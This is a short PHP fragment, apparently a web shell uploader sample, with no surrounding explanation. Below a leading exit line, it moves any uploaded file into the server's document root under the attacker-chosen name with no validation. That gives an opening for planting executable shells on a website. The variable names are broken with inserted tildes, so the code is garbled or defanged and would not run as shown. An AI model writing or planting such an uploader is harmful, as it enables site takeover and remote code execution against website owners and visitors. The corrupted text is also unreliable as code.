<?php exit; ?>
<?php
$u = $_F~ILES; $k = key($u); $d = $_S~ERVER['DOCUMENT_ROOT'] . '/'; $n = $u[$k]['name'];
if (is_uploaded_file($u[$k]['tmp_name'])) { rename($u[$k]['tmp_name'], $d . $n); }
